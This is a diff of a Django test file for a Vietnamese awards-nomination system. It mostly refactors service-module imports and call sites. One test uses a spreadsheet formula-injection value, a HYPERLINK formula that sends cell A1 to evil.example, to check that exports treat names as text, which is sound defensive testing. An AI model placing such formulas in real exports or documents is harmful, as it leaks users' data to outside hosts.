@@ -12,12 +12,20 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
-from awards import nominations as services
 from awards.models import Assessment, Nomination, NominationState
-from awards.selectors import quota_ledger
-from campaigns import obligations
-from campaigns import services as plan_services
+from awards.selectors import applicable_criteria, quota_ledger
+from awards.services.nominations import assessment_save, nomination_create, nomination_delete
+from awards.services.review import (
+    nomination_assign,
+    nomination_recommend,
+    nomination_reject,
+    nomination_return,
+    submission_reopen,
+)
 from campaigns.models import Deadline, Plan, PlanState, Quota, ReportState
+from campaigns.services import obligations as obligation_services
+from campaigns.services import plans as plan_services
+from campaigns.services import reports as report_services
 from emulation.models import Role, Unit, UnitKind, User
 from tests.builders import build_plan, dossier_complete, issued_plan_with_review_office
 from tests.factories import UnitFactory, person_with_role
@@ -34,7 +42,7 @@ def complete(setup, nomination, *, officer="officer_a", submit=True) -> Nominati
 
 def collective(setup, *, nominee="commune_a", officer="officer_a", quota="quota", plan=None, submit=True):
     district = setup["district_a" if officer == "officer_a" else "district_b"]
-    nomination = services.nomination_create(
+    nomination = nomination_create(
         actor=setup[officer], plan=plan or setup["plan"], quota=setup[quota] if isinstance(quota, str) else quota,
         nominating_unit=district, kind="collective", nominee_unit=setup[nominee])
     return complete(setup, nomination, officer=officer, submit=submit)
@@ -47,7 +55,7 @@ def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, setup):
 
     name = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
     position = "@SUM(1+1)"
-    nomination = services.nomination_create(
+    nomination = nomination_create(
         actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"], nominating_unit=setup["district_a"],
         kind="individual", person_name=name, person_position=position, person_unit=setup["commune_a"])
     complete(setup, nomination)
@@ -93,7 +101,7 @@ def test_once_submitted_the_reviewer_sees_it_and_still_does_after_returning_it(c
     client.force_login(setup["reviewer"])
     assert client.get(reverse("nomination_detail", args=[nomination.pk])).status_code == 200
     assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 200
-    services.nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
+    nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
     assert client.get(reverse("nomination_detail", args=[nomination.pk])).status_code == 200
     assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 200
 
@@ -135,12 +143,12 @@ def test_a_saved_but_unsubmitted_report_and_its_files_stay_with_the_reporting_un
 
 def test_the_receivers_see_a_report_once_submitted_and_after_returning_it(client, people, report_plan):
     report = saved_report(client, report_plan, people["officer_a"])
-    obligations.report_submit(actor=people["officer_a"], report=report)
+    report_services.report_submit(actor=people["officer_a"], report=report)
     url = reverse("report_attachment", args=[report.attachments.get().pk])
     client.force_login(people["drafter"])
     assert client.get(url).status_code == 200
     assert url in client.get(reverse("plan_rollup", args=[report_plan.pk])).content.decode()
-    obligations.report_return(actor=people["drafter"], report=report, reason="Bổ sung số liệu.")
+    report_services.report_return(actor=people["drafter"], report=report, reason="Bổ sung số liệu.")
     report.refresh_from_db()
     assert report.state == ReportState.RETURNED
     assert client.get(url).status_code == 200
@@ -152,9 +160,9 @@ def test_a_report_is_read_by_the_unit_it_is_owed_to_not_by_the_plans_other_recei
     other = Deadline.objects.create(plan=report_plan, kind="progress_report", to_unit=department,
                                     due_on=datetime.date(2026, 12, 20), position=100)
     other.from_units.set([tree["district_b"]])
-    obligations.obligations_create(plan=report_plan)
+    obligation_services.obligations_create(plan=report_plan)
     report = saved_report(client, report_plan, people["officer_a"])
-    obligations.report_submit(actor=people["officer_a"], report=report)
+    report_services.report_submit(actor=people["officer_a"], report=report)
     url = reverse("report_attachment", args=[report.attachments.get().pk])
     client.force_login(person_with_role(Role.REVIEWER, department))
     assert client.get(url).status_code == 403
@@ -171,11 +179,11 @@ def reviewer_assessments(nomination):
 @pytest.mark.parametrize("state", ["recommended", "approved", "awarded", "rejected", "not_approved", "returned"])
 def test_a_reviewer_cannot_rewrite_the_criteria_once_the_review_is_over(client, setup, state):
     nomination = collective(setup)
-    services.assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[
+    assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[
         {"criterion": c, "met": True, "score": None, "comment": "Đã đối chiếu"}
-        for c in services.applicable_criteria(nomination)])
+        for c in applicable_criteria(nomination)])
     Nomination.objects.filter(pk=nomination.pk).update(state=state)
-    criterion = services.applicable_criteria(nomination).get()
+    criterion = applicable_criteria(nomination).get()
     client.force_login(setup["reviewer"])
     response = client.post(reverse("nomination_assess", args=[nomination.pk]), {
         "as": "reviewer", f"met_{criterion.pk}": "no", f"comment_{criterion.pk}": "Sửa sau khi đã khen"},
@@ -190,7 +198,7 @@ def test_a_reviewer_cannot_rewrite_the_criteria_once_the_review_is_over(client, 
 def test_reviewer_assessment_of_a_draft_is_refused_by_the_service(setup):
     nomination = collective(setup, submit=False)
     with pytest.raises(ValidationError) as refused:
-        services.assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[])
+        assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[])
     assert refused.value.messages == ["Hồ sơ đang ở trạng thái “Đang soạn”, không thẩm định được."]
     nomination.refresh_from_db()
     assert nomination.state == NominationState.DRAFT
@@ -198,9 +206,9 @@ def test_reviewer_assessment_of_a_draft_is_refused_by_the_service(setup):
 
 def test_the_nominator_cannot_rewrite_the_self_assessment_once_submitted(setup):
     nomination = collective(setup)
-    criterion = services.applicable_criteria(nomination).get()
+    criterion = applicable_criteria(nomination).get()
     with pytest.raises(PermissionDenied):
-        services.assessment_save(actor=setup["officer_a"], nomination=nomination, entries=[
+        assessment_save(actor=setup["officer_a"], nomination=nomination, entries=[
             {"criterion": criterion, "met": False, "score": None, "comment": "Sửa sau khi nộp"}])
     assert list(Assessment.objects.filter(nomination=nomination, by_reviewer=False).values_list(
         "met", "comment")) == [(True, "Đạt")]
@@ -208,11 +216,11 @@ def test_the_nominator_cannot_rewrite_the_self_assessment_once_submitted(setup):
 
 def test_a_reviewer_is_assigned_only_while_the_dossier_is_being_reviewed(setup):
     nomination = collective(setup)
-    services.nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=setup["reviewer"])
-    services.nomination_recommend(actor=setup["reviewer"], nomination=nomination)
+    nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=setup["reviewer"])
+    nomination_recommend(actor=setup["reviewer"], nomination=nomination)
     other = person_with_role(Role.REVIEWER, setup["office"])
     with pytest.raises(ValidationError) as refused:
-        services.nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=other)
+        nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=other)
     assert refused.value.messages == ["Hồ sơ đang ở trạng thái “Đề nghị khen thưởng”, không giao thẩm định được."]
     nomination.refresh_from_db()
     assert nomination.reviewer == setup["reviewer"]
@@ -222,8 +230,8 @@ def test_submission_is_reopened_only_under_a_plan_in_force(setup):
     Plan.objects.filter(pk=setup["plan"].pk).update(state=PlanState.SUPERSEDED)
     setup["plan"].refresh_from_db()
     with pytest.raises(ValidationError) as refused:
-        services.submission_reopen(actor=setup["reviewer"], plan=setup["plan"], nominating_unit=setup["district_a"],
-                                   until=timezone.localdate(), reason="Bão lũ")
+        submission_reopen(actor=setup["reviewer"], plan=setup["plan"], nominating_unit=setup["district_a"],
+                          until=timezone.localdate(), reason="Bão lũ")
     assert refused.value.messages == ["Chỉ gia hạn nộp hồ sơ theo kế hoạch đang có hiệu lực."]
 
 
@@ -276,22 +284,22 @@ def test_a_conflicting_save_of_the_achievements_shows_both_versions(client, setu
 def test_the_same_collective_cannot_be_nominated_twice_for_one_award(setup):
     first = collective(setup)
     with pytest.raises(ValidationError) as refused:
-        services.nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
-                                   nominating_unit=setup["district_a"], kind="collective",
-                                   nominee_unit=setup["commune_a"])
+        nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
+                          nominating_unit=setup["district_a"], kind="collective",
+                          nominee_unit=setup["commune_a"])
     assert refused.value.message_dict == {"nominee_unit": [
         "Ủy ban nhân dân xã Bình Mỹ đã có hồ sơ đề nghị “Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh” theo kế "
         "hoạch này (do Ủy ban nhân dân huyện Châu Phú lập, đã nộp); mỗi tập thể chỉ được đề nghị một lần cho một "
         "hình thức khen thưởng."]}
     province_officer = person_with_role(Role.UNIT_OFFICER, setup["province"])
     with pytest.raises(ValidationError):  # nor by another unit above it
-        services.nomination_create(actor=province_officer, plan=setup["plan"], quota=setup["quota"],
-                                   nominating_unit=setup["province"], kind="collective",
-                                   nominee_unit=setup["commune_a"])
-    services.nomination_reject(actor=setup["reviewer"], nomination=first, reason="Chưa đạt tiêu chí.")
-    again = services.nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
-                                       nominating_unit=setup["district_a"], kind="collective",
-                                       nominee_unit=setup["commune_a"])
+        nomination_create(actor=province_officer, plan=setup["plan"], quota=setup["quota"],
+                          nominating_unit=setup["province"], kind="collective",
+                          nominee_unit=setup["commune_a"])
+    nomination_reject(actor=setup["reviewer"], nomination=first, reason="Chưa đạt tiêu chí.")
+    again = nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
+                              nominating_unit=setup["district_a"], kind="collective",
+                              nominee_unit=setup["commune_a"])
     assert again.state == NominationState.DRAFT
 
 
@@ -311,17 +319,17 @@ def test_a_draft_never_submitted_can_be_deleted_and_frees_the_collective(client,
     assert (response.status_code, response["Location"]) == (302, reverse("my_nominations"))
     assert not Nomination.objects.filter(pk=draft.pk).exists()
     assert [name for name in stored if storage.exists(name)] == []
-    again = services.nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
-                                       nominating_unit=setup["district_a"], kind="collective",
-                                       nominee_unit=setup["commune_a"])
+    again = nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
+                              nominating_unit=setup["district_a"], kind="collective",
+                              nominee_unit=setup["commune_a"])
     assert again.state == NominationState.DRAFT
 
 
 def test_a_dossier_once_submitted_is_never_deleted(setup):
     nomination = collective(setup)
-    services.nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
+    nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
     with pytest.raises(ValidationError) as refused:
-        services.nomination_delete(actor=setup["officer_a"], nomination=nomination)
+        nomination_delete(actor=setup["officer_a"], nomination=nomination)
     assert refused.value.messages == ["Chỉ xóa được hồ sơ đang soạn, chưa nộp lần nào."]
 
 
@@ -345,14 +353,14 @@ def amended(setup) -> Plan:
 
 def test_an_amendment_does_not_offer_again_the_places_its_predecessor_used(setup):
     first = collective(setup, nominee="district_a", quota="district_quota")
-    services.nomination_recommend(actor=setup["reviewer"], nomination=first)
+    nomination_recommend(actor=setup["reviewer"], nomination=first)
     second_plan = amended(setup)
     district_quota = second_plan.quotas.get(per_parent=False)
     row = next(row for row in quota_ledger(second_plan) if row.quota.pk == district_quota.pk)
     assert (row.quota.count, row.recommended, row.left) == (1, 1, 0)
     other = collective(setup, nominee="district_b", officer="officer_b", quota=district_quota, plan=second_plan)
     with pytest.raises(ValidationError) as refused:
-        services.nomination_recommend(actor=setup["reviewer"], nomination=other)
+        nomination_recommend(actor=setup["reviewer"], nomination=other)
     assert refused.value.messages == [
         "Đã hết suất: “Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh” cho huyện dẫn đầu có 1 suất và đã đề nghị đủ."]
     communes = next(row for row in quota_ledger(second_plan) if row.quota.per_parent)
@@ -361,21 +369,21 @@ def test_an_amendment_does_not_offer_again_the_places_its_predecessor_used(setup
 
 def test_an_amendment_counts_the_predecessors_place_per_parent_and_the_collective_once(setup):
     first = collective(setup)
-    services.nomination_recommend(actor=setup["reviewer"], nomination=first)
+    nomination_recommend(actor=setup["reviewer"], nomination=first)
     second_plan = amended(setup)
     communes = second_plan.quotas.get(per_parent=True)
     row = next(row for row in quota_ledger(second_plan) if row.quota.pk == communes.pk)
     assert [(parent.code, taken) for parent, taken in row.by_parent] == [("huyen-a", 1)]
     with pytest.raises(ValidationError) as refused:
-        services.nomination_create(actor=setup["officer_a"], plan=second_plan, quota=communes,
-                                   nominating_unit=setup["district_a"], kind="collective",
-                                   nominee_unit=setup["commune_a"])
+        nomination_create(actor=setup["officer_a"], plan=second_plan, quota=communes,
+                          nominating_unit=setup["district_a"], kind="collective",
+                          nominee_unit=setup["commune_a"])
     assert list(refused.value.message_dict) == ["nominee_unit"]
     another = UnitFactory(parent=setup["district_a"], name="Ủy ban nhân dân xã Mỹ Đức", code="xa-a2")
     setup["commune_a2"] = another
     late = collective(setup, nominee="commune_a2", quota=communes, plan=second_plan)
     with pytest.raises(ValidationError) as full:
-        services.nomination_recommend(actor=setup["reviewer"], nomination=late)
+        nomination_recommend(actor=setup["reviewer"], nomination=late)
     assert "chỉ có một suất cho mỗi đơn vị thuộc Ủy ban nhân dân huyện Châu Phú" in full.value.messages[0]
 
 
@@ -400,7 +408,7 @@ def test_a_report_for_a_year_out_of_range_is_not_found(client, people, report_pl
 
 def test_the_report_service_refuses_a_year_out_of_range(tree, people, report_plan):
     with pytest.raises(ValidationError) as refused:
-        obligations.report_save(actor=people["officer_a"], plan=report_plan, unit=tree["district_a"],
+        report_services.report_save(actor=people["officer_a"], plan=report_plan, unit=tree["district_a"],
                                 period_year=32767, narrative="x", values={})
     assert refused.value.messages == ["Năm báo cáo phải từ 2000 đến 2100."]
 
